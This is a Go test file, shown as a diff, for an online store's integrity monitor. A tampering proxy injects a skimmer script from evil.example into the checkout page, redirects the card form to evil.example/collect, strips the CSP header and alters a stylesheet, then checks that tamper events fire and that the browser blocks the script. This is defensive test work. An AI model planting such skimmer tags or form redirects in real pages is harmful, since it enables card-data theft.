@@ -1,0 +1,289 @@
+package main
+
+import (
+	"bytes"
+	"context"
+	"database/sql"
+	"io"
+	"log/slog"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"net/http/httputil"
+	"net/url"
+	"strconv"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/chromedp/chromedp"
+
+	"kaede/internal/secevent"
+)
+
+// tamperProxy stands between the customers (and the monitor) and the
+// store, as a CDN or a reverse proxy would: the store's base URL is its
+// address. It changes responses with the function set last, and counts
+// the CSP reports that pass through it.
+type tamperProxy struct {
+	srv   *httptest.Server
+	ready chan struct{}
+
+	mu      sync.Mutex
+	target  *url.URL
+	tamper  func(*http.Response) error
+	reports int
+}
+
+// newTamperProxy listens at once, so that its address can be the store's
+// base URL, and forwards once pointTo names the store.
+func newTamperProxy(t *testing.T) *tamperProxy {
+	t.Helper()
+	p := &tamperProxy{ready: make(chan struct{})}
+	rp := &httputil.ReverseProxy{
+		Rewrite: func(r *httputil.ProxyRequest) {
+			p.mu.Lock()
+			r.SetURL(p.target)
+			p.mu.Unlock()
+			r.Out.Host = r.In.Host
+		},
+		ModifyResponse: func(res *http.Response) error {
+			p.mu.Lock()
+			f := p.tamper
+			p.mu.Unlock()
+			if f == nil {
+				return nil
+			}
+			return f(res)
+		},
+	}
+	p.srv = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		<-p.ready
+		if r.Method == http.MethodPost && r.URL.Path == "/csp-report" {
+			p.mu.Lock()
+			p.reports++
+			p.mu.Unlock()
+		}
+		rp.ServeHTTP(w, r)
+	}))
+	p.srv.Start()
+	t.Cleanup(p.srv.Close)
+	return p
+}
+
+func (p *tamperProxy) pointTo(t *testing.T, store string) {
+	t.Helper()
+	u, err := url.Parse(store)
+	if err != nil {
+		t.Fatal(err)
+	}
+	p.mu.Lock()
+	p.target = u
+	p.mu.Unlock()
+	close(p.ready)
+}
+
+func (p *tamperProxy) set(f func(*http.Response) error) {
+	p.mu.Lock()
+	defer p.mu.Unlock()
+	p.tamper = f
+}
+
+func (p *tamperProxy) cspReports() int {
+	p.mu.Lock()
+	defer p.mu.Unlock()
+	return p.reports
+}
+
+// editBody changes the body of the responses match picks.
+func editBody(match func(*http.Request) bool, edit func([]byte) []byte) func(*http.Response) error {
+	return func(res *http.Response) error {
+		if !match(res.Request) {
+			return nil
+		}
+		b, err := io.ReadAll(res.Body)
+		res.Body.Close()
+		if err != nil {
+			return err
+		}
+		b = edit(b)
+		res.Body = io.NopCloser(bytes.NewReader(b))
+		res.ContentLength = int64(len(b))
+		res.Header.Set("Content-Length", strconv.Itoa(len(b)))
+		return nil
+	}
+}
+
+// offlineTransport refuses every host but the loopback ones at once, as
+// a sandbox without DNS would, instead of waiting on a lookup of
+// evil.example.
+type offlineTransport struct{ rt http.RoundTripper }
+
+func (o offlineTransport) RoundTrip(req *http.Request) (*http.Response, error) {
+	if ip := net.ParseIP(req.URL.Hostname()); ip == nil || !ip.IsLoopback() {
+		return nil, &net.DNSError{Err: "no such host", Name: req.URL.Hostname(), IsNotFound: true}
+	}
+	return o.rt.RoundTrip(req)
+}
+
+// startMonitored runs the demo store with card payments behind proxy,
+// its base URL the proxy's, the monitor checking every second.
+func startMonitored(t *testing.T, cfg Config, proxy *tamperProxy) *Main {
+	t.Helper()
+	cfg.Addr = "127.0.0.1:0"
+	cfg.BaseURL = proxy.srv.URL
+	cfg.Demo = true
+	cfg.MailFrom = "shop@kaede.example"
+	cfg.Secret = strings.Repeat("x", 32)
+	cfg.Card = CardConfig{Provider: "gateway", RunGateway: true}
+	cfg.finish()
+	if err := cfg.Validate(); err != nil {
+		t.Fatalf("config: %v", err)
+	}
+	m := NewMain(cfg, slog.New(slog.NewTextHandler(io.Discard, nil)))
+	tr := http.DefaultTransport.(*http.Transport).Clone()
+	t.Cleanup(tr.CloseIdleConnections)
+	m.monitorOptions = monitorOptions{every: time.Second, transport: offlineTransport{tr}}
+	if err := m.Run(t.Context()); err != nil {
+		m.Close()
+		t.Fatalf("run: %v", err)
+	}
+	t.Cleanup(func() { m.Close() })
+	proxy.pointTo(t, m.URL())
+	return m
+}
+
+// lastRun is the newest run's id and result, or 0 before the first.
+func lastRun(t *testing.T, d *sql.DB) (int64, string) {
+	t.Helper()
+	var id int64
+	var result string
+	err := d.QueryRow(`SELECT id, result FROM monitor_runs ORDER BY id DESC LIMIT 1`).Scan(&id, &result)
+	if err != nil && err != sql.ErrNoRows {
+		t.Fatalf("last run: %v", err)
+	}
+	return id, result
+}
+
+// TestMonitorCatchesTamperingInFront is the proof of issue 9: a proxy in
+// front of the store changes, one at a time, what customers receive on
+// the payment pages: a skimmer script, the card step's form action, the
+// CSP header, one byte of a stylesheet. The store's own monitor, walking
+// the pages through the public base URL, raises a critical tamper event
+// for each, and the time from the change to the event is printed.
+func TestMonitorCatchesTamperingInFront(t *testing.T) {
+	eachDatabase(t, func(t *testing.T, cfg Config) {
+		proxy := newTamperProxy(t)
+		m := startMonitored(t, cfg, proxy)
+		events := secevent.NewStore(m.db, nil)
+		ctx := context.Background()
+
+		waitUntil(t, 60*time.Second, func() bool {
+			var n int
+			_ = m.db.QueryRow(`SELECT COUNT(*) FROM monitor_baselines WHERE state = 'approved' AND approved_by = 'system:monitor'`).Scan(&n)
+			return n == 1
+		})
+		if id, result := lastRun(t, m.db.DB); id == 0 || result != "ok" {
+			t.Fatalf("first run %d: %s, want ok", id, result)
+		}
+
+		evil := `<script src="https://evil.example/s.js"></script>`
+		cases := []struct {
+			name   string
+			tamper func(*http.Response) error
+			want   string // in the event's detail
+		}{
+			{"(a) skimmer script on the checkout page", editBody(
+				func(r *http.Request) bool { return r.Method == http.MethodGet && r.URL.Path == "/checkout" },
+				func(b []byte) []byte { return bytes.Replace(b, []byte("</head>"), []byte(evil+"</head>"), 1) }),
+				"https://evil.example/s.js"},
+			{"(b) card step's form action to another origin", editBody(
+				func(r *http.Request) bool { return r.Method == http.MethodPost && r.URL.Path == "/checkout/confirm" },
+				func(b []byte) []byte {
+					return bytes.Replace(b, []byte(`action="/checkout/place"`), []byte(`action="https://evil.example/collect"`), 1)
+				}),
+				"card step sends customers to an origin that is not the provider's"},
+			{"(c) CSP header dropped", func(res *http.Response) error {
+				if res.Request.URL.Path == "/checkout" {
+					res.Header.Del("Content-Security-Policy")
+				}
+				return nil
+			}, "Content-Security-Policy"},
+			{"(d) one byte of a stylesheet", editBody(
+				func(r *http.Request) bool { return strings.HasSuffix(r.URL.Path, ".css") },
+				func(b []byte) []byte {
+					b[len(b)/2] ^= 1
+					return b
+				}),
+				"hash-changed"},
+		}
+		seen := map[int64]bool{}
+		for _, tc := range cases {
+			changed := time.Now()
+			proxy.set(tc.tamper)
+			var got secevent.Event
+			waitUntil(t, 60*time.Second, func() bool {
+				list, err := events.List(ctx, secevent.Filter{Kind: secevent.KindTamper, Severity: secevent.Critical})
+				if err != nil {
+					t.Fatalf("list events: %v", err)
+				}
+				for _, e := range list {
+					if !seen[e.ID] {
+						got = e
+						return true
+					}
+				}
+				return false
+			})
+			took := time.Since(changed)
+			seen[got.ID] = true
+			t.Logf("%s: critical tamper event %d %.1fs after the change: %s", tc.name, got.ID, took.Seconds(), got.Summary)
+			if !strings.Contains(got.Detail, tc.want) {
+				t.Errorf("%s: event detail %s, want %q in it", tc.name, got.Detail, tc.want)
+			}
+
+			// The browser's refusal does not depend on the database: once.
+			if strings.HasPrefix(tc.name, "(a)") && t.Name() == "TestMonitorCatchesTamperingInFront/sqlite" {
+				skimmerRefused(t, proxy)
+			}
+
+			// Undone, the pages are the baseline's again.
+			proxy.set(nil)
+			undone, _ := lastRun(t, m.db.DB)
+			waitUntil(t, 60*time.Second, func() bool {
+				id, result := lastRun(t, m.db.DB)
+				return id > undone+1 && result == "ok"
+			})
+		}
+	})
+}
+
+// skimmerRefused opens the tampered checkout page in Chromium through the
+// proxy: the page carries the skimmer and the CSP refuses to run it.
+func skimmerRefused(t *testing.T, proxy *tamperProxy) {
+	t.Helper()
+	chromiumPath(t)
+	before := proxy.cspReports()
+	b := newBrowser(t, 60*time.Second)
+	b.watchCSP(t)
+	base := proxy.srv.URL
+	p := buyableProduct(t, base)
+	b.navigate(t, "open the product page", chromedp.Navigate(base+"/products/"+p.Slug))
+	b.navigate(t, "add to cart", chromedp.Click(chromedp.CSS(`form.add:has(input[name="sku"][value="`+p.SKU+`"]) button[type="submit"]`)))
+	res := b.navigate(t, "open the tampered checkout", chromedp.Navigate(base+"/checkout"))
+	if res.Status != http.StatusOK {
+		t.Fatalf("/checkout: status %d", res.Status)
+	}
+	if !eval[bool](t, b, `document.documentElement.outerHTML.includes('https://evil.example/s.js')`) {
+		t.Fatal("/checkout: the proxy did not inject the skimmer")
+	}
+	waitUntil(t, 10*time.Second, func() bool {
+		return strings.Contains(strings.Join(cspViolations(t, b), "\n"), "https://evil.example/s.js")
+	})
+	// The store's reports go through the Reporting API, which Chrome
+	// prefers when report-to is set and sends in batches: headless
+	// Chromium sent none within 90 s here, so the report's arrival is not
+	// waited for (the gateway's report-uri path is tested in browser_test).
+	t.Logf("(a) Chromium refused the skimmer (CSP); reports seen at /csp-report so far: %d", proxy.cspReports()-before)
+}
